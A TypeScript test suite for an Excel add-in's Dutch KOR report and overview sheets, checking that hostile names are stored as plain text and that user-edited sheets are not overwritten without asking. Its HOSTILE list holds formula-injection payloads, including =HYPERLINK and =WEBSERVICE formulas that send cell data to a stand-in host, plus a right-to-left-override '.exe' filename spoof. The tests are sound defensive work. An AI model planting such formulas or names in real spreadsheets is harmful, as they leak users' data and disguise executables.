/**
 * Hostile names in the sheets the add-in writes: sheet names, group names (stored in the workbook's settings,
 * so they travel with a received file) and labels must land as text, never as a formula or a number. The
 * fake Excel reads a string written to a cell that is not formatted as text as Excel does (fake-excel.ts
 * `enteredAs`). And an own sheet that the user edited outside the written area is not cleared without asking.
 */
import { writeReportSheet } from "../../src/excel/reportSheet";
import { writeOverviewSheet } from "../../src/excel/overviewSheet";
import { OWN_SHEET_AREA_KEY } from "../../src/excel/ownSheet";
import { buildOverview } from "../../src/bulk/overview";
import { EMPTY_GROUPING, setGroup } from "../../src/bulk/groups";
import { readAllSheets } from "../../src/excel/allSheets";
import { dayFromIso, excelSerialFromDay } from "../../src/rules/dates";
import { readTable } from "../../src/reading/headers";
import { summarizeYear } from "../../src/rules/summary";
import { sampleValues } from "../../src/taskpane/browser/sample";
import { enteredAs, FakeWorkbook } from "./fake-excel";
import { fakeContext } from "./allSheets-fake";

const TODAY = dayFromIso("2026-11-27");
const s = (iso: string): number => excelSerialFromDay(dayFromIso(iso));
const table = readTable(sampleValues());
const summary = summarizeYear(table.rows, { today: TODAY, year: 2026, problems: table.problems });

const HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"klik")', "-2025", "+31 Amsterdam", '=WEBSERVICE("http://x.test/")', "@SUM(A1)"];

const flat = (cells: unknown[][]): unknown[] => cells.flat();
const isFormula = (v: unknown): boolean => typeof v === "object" && v !== null && "formula" in v;

describe("the fake Excel reads written strings as Excel does", () => {
  it("turns =, + and - text into formulas or numbers unless the cell is formatted as text", () => {
    expect(enteredAs("=1+2", "General")).toEqual({ formula: "=1+2" });
    expect(enteredAs("-2025", "General")).toBe(-2025);
    expect(enteredAs("+31 Amsterdam", "General")).toEqual({ formula: "=+31 Amsterdam" });
    expect(enteredAs("-2025", "@")).toBe("-2025");
    expect(enteredAs("'=1+2", "General")).toBe("=1+2");
  });
});

describe("Write report to sheet", () => {
  it.each(HOSTILE)("writes the source name %s as text", async (name) => {
    const wb = new FakeWorkbook();
    wb.addSheet("Facturen", sampleValues());
    await writeReportSheet(wb.context().asExcel(), summary, "nl", name);
    const sheet = wb.sheet("KOR 2026")!;
    const row = sheet.cells.find((r) => r?.[0] === "Bron")!;
    expect(row[1]).toBe(name);
    expect(flat(sheet.cells).some(isFormula)).toBe(false);
    // Numbers stay numbers: the countable turnover is still an amount.
    const countable = sheet.cells.find((r) => r?.[0] === "Omzet die meetelt")!;
    expect(typeof countable[1]).toBe("number");
  });

  it("shows a direction override in the source name as a visible escape", async () => {
    const wb = new FakeWorkbook();
    wb.addSheet("Facturen", sampleValues());
    await writeReportSheet(wb.context().asExcel(), summary, "en", "Klant\u202Eslx.exe");
    const row = wb.sheet("KOR 2026")!.cells.find((r) => r?.[0] === "Source")!;
    expect(row[1]).toBe("Klant\\u202Eslx.exe");
  });
});

describe("Write overview to sheet", () => {
  it.each(HOSTILE)("writes the group name %s as text", async (groupName) => {
    const a = [["Datum", "Bedrag"], [s("2025-02-01"), 12000]];
    const b = [["Datum", "Bedrag"], [s("2025-03-01"), 7000]];
    const { context } = fakeContext([{ name: "Winkel", cells: a }, { name: "+31 Webshop", cells: b }]);
    const { units } = await readAllSheets(context);
    const lines = buildOverview(units, setGroup(EMPTY_GROUPING, groupName, [units[0].id, units[1].id]), { today: TODAY });
    const wb = new FakeWorkbook();
    wb.addSheet("Winkel", a);
    const result = await writeOverviewSheet(wb.context().asExcel(), lines, "nl", TODAY);
    expect(result.kind).toBe("written");
    const sheet = wb.sheet("KOR overzicht")!;
    const line = sheet.cells.find((r) => r?.[0] === groupName);
    expect(line).toBeDefined();
    expect(line![1]).toBe("Winkel, +31 Webshop");
    expect(line![2]).toBe(2025); // the year stays a number
    expect(flat(sheet.cells).some(isFormula)).toBe(false);
  });
});

describe("an own sheet the user edited", () => {
  it("is not cleared when the user added values outside the report; replaced only when confirmed", async () => {
    const wb = new FakeWorkbook();
    wb.addSheet("Facturen", sampleValues());
    await writeReportSheet(wb.context().asExcel(), summary, "nl", "Facturen");
    const sheet = wb.sheet("KOR 2026")!;
    expect(sheet.customProperties.get(OWN_SHEET_AREA_KEY)).toMatch(/^\d+x6$/);
    // The user keeps notes beside the report (column H).
    (sheet.cells[2] ??= [])[7] = "Gebeld met klant, zie mail";
    const before = JSON.stringify(sheet.cells);
    const ctx = wb.context();
    const asked = await writeReportSheet(ctx.asExcel(), summary, "nl", "Facturen");
    expect(asked).toEqual({ kind: "edited", sheetName: "KOR 2026" });
    expect(JSON.stringify(sheet.cells)).toBe(before);
    expect(ctx.application.suspended).toBe(0);
    const replaced = await writeReportSheet(wb.context().asExcel(), summary, "nl", "Facturen", { replaceEdited: true });
    expect(replaced.kind).toBe("written");
    expect(sheet.cells[2]?.[7]).toBeUndefined();
  });

  it("is rewritten without asking when nothing lies outside the report", async () => {
    const wb = new FakeWorkbook();
    wb.addSheet("Facturen", sampleValues());
    await writeReportSheet(wb.context().asExcel(), summary, "nl", "Facturen");
    expect((await writeReportSheet(wb.context().asExcel(), summary, "nl", "Facturen")).kind).toBe("written");
  });

  it("asks for the overview sheet too", async () => {
    const { context } = fakeContext([{ name: "Winkel", cells: [["Datum", "Bedrag"], [s("2025-02-01"), 12000]] }]);
    const { units } = await readAllSheets(context);
    const lines = buildOverview(units, EMPTY_GROUPING, { today: TODAY });
    const wb = new FakeWorkbook();
    wb.addSheet("Winkel", []);
    await writeOverviewSheet(wb.context().asExcel(), lines, "en", TODAY);
    const sheet = wb.sheet("KOR overview")!;
    sheet.cells[40] = ["my total"];
    expect((await writeOverviewSheet(wb.context().asExcel(), lines, "en", TODAY)).kind).toBe("edited");
    expect(sheet.cells[40]).toEqual(["my total"]);
  });
});
